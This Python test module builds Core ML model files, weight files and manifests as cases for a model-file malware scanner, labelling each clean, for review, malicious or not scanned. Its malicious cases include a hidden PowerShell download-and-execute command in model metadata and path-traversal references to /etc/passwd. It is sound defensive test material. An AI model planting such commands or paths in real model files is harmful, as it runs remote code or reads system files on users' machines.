"""Models of Core ML with classes and files that are not theirs."""

from __future__ import annotations

import json
import struct
from collections.abc import Callable
from functools import partial

from modelsweep.core.report import Verdict
from tests.scanners.case import Case
from tests.scanners.protobuf import data, number

DESCRIPTION = data(2, data(1, data(1, "x")), data(100, data(3, "Acme"), data(4, "MIT")))


def model(kind: int, *content: bytes) -> bytes:
    """Return a model of a kind."""
    return number(1, 4) + DESCRIPTION + data(kind, *content)


def layer(name: str, *parameters: bytes) -> bytes:
    """Return a layer."""
    return data(1, data(1, name), data(2, "in"), data(3, "out"), *parameters)


def custom(name: str) -> bytes:
    """Return the parameters of a custom layer."""
    return data(500, data(10, name), data(40, "by Acme"))


INNER = data(140, number(1, 4), data(20, data(1, bytes(16))))


def program(path: str = "@model_path/weights/weight.bin", kind: str = "const") -> bytes:
    """Return a program of one operation whose value stands in a file."""
    value = data(2, data(5, data(1, path), number(2, 64)))
    operation = data(3, data(1, kind), data(5, data(1, "val"), value))
    return model(502, number(1, 1), data(2, data(1, "main"), data(2, data(3, data(1, "CoreML5"), data(2, operation)))))


def elsewhere(place: str) -> bytes:
    """Return a program with a file outside its folder in an unusual place."""
    file = data(5, data(1, "/etc/passwd"), number(2, 64))
    attribute = data(1, "x"), data(2, file)
    tensor = data(2, data(1, number(1, 11), data(4, *attribute)))
    forms = {
        "program": data(4, *attribute),
        "function": in_function(data(4, *attribute)),
        "block": in_block(data(4, *attribute)),
        "type": in_block(data(3, data(1, "const"), data(3, data(1, "y"), tensor))),
        "list": in_block(data(3, data(1, "const"), data(5, data(1, "val"), data(2, data(3, data(3, data(1, file))))))),
        "table": in_block(
            data(3, data(1, "c"), data(5, data(1, "v"), data(2, data(3, data(4, data(1, data(2, file)))))))
        ),
    }
    return model(502, number(1, 1), forms[place])


def in_function(*parts: bytes) -> bytes:
    """Return the field of a program with a function."""
    return data(2, data(1, "main"), data(2, *parts))


def in_block(*parts: bytes) -> bytes:
    """Return the field of a program with a block of a function."""
    return in_function(data(3, data(1, "CoreML5"), data(2, *parts)))


def weights(*sizes: int, count: int = 0) -> bytes:
    """Return a file of weights with arrays of these sizes."""
    written = struct.pack("<II", count or len(sizes), 2) + bytes(56)
    for size in sizes:
        start = len(written) + 64
        written += b"\xef\xbe\xad\xde" + struct.pack("<IQQ", 1, size, start) + bytes(40) + bytes(size)
        written += bytes(-len(written) % 64)
    return written


def manifest(path: str) -> bytes:
    """Return the manifest of a package."""
    entry = {"author": "com.apple.CoreML", "name": "model.mlmodel", "path": path}
    content = {"fileFormatVersion": "1.0.0", "itemInfoEntries": {"b56d": entry}, "rootModelIdentifier": "b56d"}
    return json.dumps(content, indent=4).encode()


def case(build: Callable[[], bytes], verdict: Verdict, name: str = "model.mlmodel") -> Case:
    """Return the case of a file."""
    return Case(build, name, verdict)


NETWORK = layer("dense", INNER) + layer("relu", data(130, data(10)))


def described(key: str, value: str) -> bytes:
    """Return a network with an entry that its author made in the metadata."""
    metadata = data(100, data(1, "A model"), data(4, "MIT"), data(100, data(1, key), data(2, value)))
    return number(1, 4) + data(2, metadata) + data(500, NETWORK)


CASES = {
    "command_in_metadata": case(
        lambda: described("postprocess", 'powershell -nop -w hidden -c "iex (iwr http://192.0.2.1/a.ps1)"'),
        Verdict.MALICIOUS,
    ),
    "benign_metadata": case(lambda: described("postprocess", "python3 postprocess.py"), Verdict.CLEAN),
    "benign": case(lambda: model(500, NETWORK), Verdict.CLEAN),
    "benign_other_name": case(lambda: model(403, NETWORK), Verdict.CLEAN, "model.bin"),
    "benign_program": case(program, Verdict.CLEAN),
    # Its first bytes are those of an LZMA stream of nothing
    "benign_weights": Case(lambda: weights(2400, 10, 64), "weight.bin", Verdict.CLEAN, cut_is_clean=True),
    "benign_manifest": case(lambda: manifest("com.apple.CoreML/model.mlmodel"), Verdict.CLEAN, "Manifest.json"),
    "custom_layer": case(lambda: model(500, NETWORK, layer("swish", custom("AcmeSwish"))), Verdict.REVIEW),
    "custom_layer_in_branch": case(
        lambda: model(500, layer("if", data(605, data(2, layer("swish", custom("AcmeSwish")))))), Verdict.REVIEW
    ),
    "custom_model_in_pipeline": case(
        lambda: model(202, data(1, model(500, NETWORK)), data(1, model(555, data(10, "AcmeModel")))), Verdict.REVIEW
    ),
    "custom_operation": case(lambda: program(kind="custom_layer"), Verdict.REVIEW),
    "weights_outside": case(lambda: program("@model_path/../../../etc/passwd"), Verdict.MALICIOUS),
    **{
        f"weights_outside_in_{place}": case(partial(elsewhere, place), Verdict.MALICIOUS)
        for place in ("program", "function", "block", "type", "list", "table")
    },
    "weights_absolute": case(lambda: program("/etc/passwd"), Verdict.MALICIOUS),
    "linked_outside": case(lambda: model(556, data(1, data(1, data(1, "../x.mlmodel")))), Verdict.MALICIOUS),
    "manifest_outside": case(lambda: manifest("../../etc/passwd"), Verdict.MALICIOUS, "Manifest.json"),
    "manifest_outside_behind_a_long_value": case(
        lambda: b'{"note": "%b", ' % (b"x" * 5_000) + manifest("../../etc/passwd")[1:],
        Verdict.MALICIOUS,
        "Manifest.json",
    ),
    # The first eighteen bytes are a whole LZMA stream of nothing
    "weights_beyond": Case(
        lambda: weights(80).replace(struct.pack("<Q", 80), struct.pack("<Q", 1 << 40)),
        "weight.bin",
        Verdict.NOT_SCANNED,
        cut_is_clean=True,
    ),
    "weights_missing": case(lambda: weights(64, count=1 << 31), Verdict.NOT_SCANNED, "weight.bin"),
    "without_kind": case(lambda: number(1, 4) + DESCRIPTION, Verdict.NOT_SCANNED),
    "other_content": case(lambda: b"weights", Verdict.NOT_SCANNED),
}
